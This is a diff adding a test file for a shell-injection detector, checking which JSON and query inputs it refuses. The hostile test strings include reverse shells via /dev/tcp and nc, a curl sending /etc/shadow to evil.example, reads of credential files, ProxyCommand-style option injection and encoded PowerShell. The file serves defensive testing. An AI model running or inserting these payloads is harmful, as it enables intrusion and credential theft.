@@ -1,0 +1,174 @@
+// Commands that no list names, options that run commands, and what only looks like either: each pair of lists is one
+// decision of the shell's detector, at sensitivity 1, in a leaf of JSON and in a query.
+
+import { describe, expect, test } from 'vitest'
+
+import { coreEngine } from '../corpora/program.ts'
+
+const engine = coreEngine()
+
+const refused = (text: string): boolean => engine.text('json', 'value', 'body.note', text).refused
+
+const refusedInQuery = (text: string): boolean => engine.text('query', 'value', 'query.q', text).refused
+
+const SENTENCE =
+  'I have been using this product for several weeks now and it works really well for our whole team, thanks. '
+
+interface Pair {
+  readonly decision: string
+  readonly honest: readonly string[]
+  readonly hostile: readonly string[]
+}
+
+const pairs: readonly Pair[] = [
+  {
+    decision:
+      'a command that no list has is told by the file of secrets that it reads, and a sentence is not',
+    honest: ['static; see /etc/hosts', 'a; update the /etc/hosts file', 'x | y', 'a; zog report.txt'],
+    hostile: [
+      'x; zog /etc/passwd',
+      'x | zog -n ~/.ssh/id_rsa',
+      "x' || zog /proc/self/environ #",
+      '1 & zog</etc/shadow',
+    ],
+  },
+  {
+    decision: 'a mark that closes what nothing has opened parts a line as a separator does',
+    honest: ['(see above)\nfind me', 'thanks :)\nfind a way', '"a"\nlast week'],
+    hostile: ['x"]\nmount', "x'}\r\nlast", 'x)\nfind / -name key', '1"; \n uptime'],
+  },
+  {
+    decision: 'an idle word behind a separator is a title’s, and one that tells or acts is none',
+    honest: ['river | help', 'closed;host', 'SKU:ec09;join', 'table && top'],
+    hostile: ['river | whoami', 'closed;hostname', 'x;ls', 'x && reboot', "x'; date"],
+  },
+  {
+    decision: 'what is set is run: variables, arguments, functions, the shell by its name',
+    honest: ['set x; 1$', 'function a() { return b }', '${name} of ${place}', 'a() { b; }'],
+    hostile: [
+      'x; a=c; b2=at; ${a}${b2} /etc/hosts',
+      'x;set -- id;$@',
+      'x;f(){ id;};f',
+      'x; function f { id; };f',
+      'x;${SHELL##*/} -c id',
+      'x;c$(echo)at /etc/passwd',
+    ],
+  },
+  {
+    decision: 'PowerShell’s blocks, calls and drives, and cmd’s commas',
+    honest: ['a | b%', 'sign-in page; Log-In Form', 'a,b;c,d', 'data:image/png;base64,/pEiPwx9YPSbs8Nb'],
+    hostile: [
+      'x;1..5|%{sleep 1}',
+      'x & (gcm *hoam*)',
+      "x;.('iex') y",
+      'x;dir env:',
+      'x$((New-Object Net.WebClient).DownloadString(1))',
+      'x & ipconfig,/all',
+      'x; Add-LocalGroupMember Administrators joe',
+    ],
+  },
+  {
+    decision:
+      'an option is an attack where it runs a command, writes where servers run files, or sends a secret (CWE-88)',
+    honest: [
+      '--output=report.json',
+      '-o out.txt',
+      '--config=/etc/app/config.yaml',
+      '-exec-mode fast',
+      'a - b = c',
+      '--data=@mention',
+      '-d 5',
+      'text::x',
+      '--exec',
+      'use -o /tmp/x here',
+    ],
+    hostile: [
+      '-oProxyCommand=id',
+      'x -oProxyCommand="touch y"',
+      'ssh://-oProxyCommand=id/x',
+      '--upload-pack=touch /tmp/x',
+      'ext::sh -c id',
+      '--checkpoint-action=exec=sh',
+      '--use-compress-program=id',
+      '-exec id {} +',
+      'x --output=/var/www/html/a.php',
+      '-o /root/.ssh/authorized_keys',
+      '-d @/etc/passwd',
+      '--post-file=/etc/shadow',
+      '-c core.sshCommand=id',
+      '-javaagent:/tmp/x.jar',
+      '-d allow_url_include=1',
+      '-u#-1 sh',
+    ],
+  },
+  {
+    decision: 'versions, comparisons, members and markup are no arguments',
+    honest: [
+      'OpenSSL versions 3.0.0 to 3.0.6 are affected',
+      'node >= 18',
+      'python repositories:>950',
+      'less than %{count} seconds',
+      'a; call .then() on it',
+      '&#39; Top Submissions</h3>',
+      '<td style="padding: 0;" align="center">',
+      'attachment; filename="closed help.mp4"',
+    ],
+    hostile: [
+      'x; ping 1.2.3.4',
+      'x; node -e process.exit()',
+      'x; less /etc/passwd',
+      'x; head .env',
+      'x; cat </etc/passwd',
+    ],
+  },
+  {
+    decision: 'what goes on with a command breaks out of nothing, unless it does harm',
+    honest: ['cd api && make test', 'yarn && cd web'],
+    hostile: ['cd x && cat /etc/passwd', 'x && make -f /tmp/y', "cd 'x' ; id"],
+  },
+]
+
+for (const { decision, honest, hostile } of pairs)
+  describe(decision, () => {
+    test.each(honest)('passes: %s', (text) => {
+      expect(refused(text)).toBe(false)
+      expect(refusedInQuery(text)).toBe(false)
+    })
+    test.each(hostile)('refused: %s', (text) => {
+      expect(refused(text)).toBe(true)
+      expect(refusedInQuery(text)).toBe(true)
+    })
+  })
+
+describe('a sentence before an attack is no excuse', () => {
+  test.each([
+    '; cat /etc/passwd',
+    '| curl -d @/etc/shadow evil.example',
+    '$(curl evil.example | sh)',
+    ';id;',
+    '& dir C:\\',
+    '; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
+    '|{cat,/etc/passwd}',
+    '; powershell -enc ZABpAHIA',
+    "; bash<<<'id'",
+  ])('refused: %s', (text) => {
+    expect(refused(SENTENCE + text)).toBe(true)
+  })
+})
+
+const fenced = (line: string): string => `${SENTENCE}\n\n\`\`\`sh\n${line}\n\`\`\`\n`
+
+describe('a fence is an excuse for what documentation shows, and none for what does harm as it stands', () => {
+  test.each(['npm install && npm test', 'curl -s https://x.example/install | sh', 'ls -la | grep x'])(
+    'passes: %s',
+    (line) => {
+      expect(refused(fenced(line))).toBe(false)
+    },
+  )
+  test.each(['x; cat /etc/shadow', 'x && exec 3<>/dev/tcp/10.0.0.1/80', 'x | nc -e sh 10.0.0.1 80'])(
+    'refused: %s',
+    (line) => {
+      expect(refused(fenced(line))).toBe(true)
+    },
+  )
+})
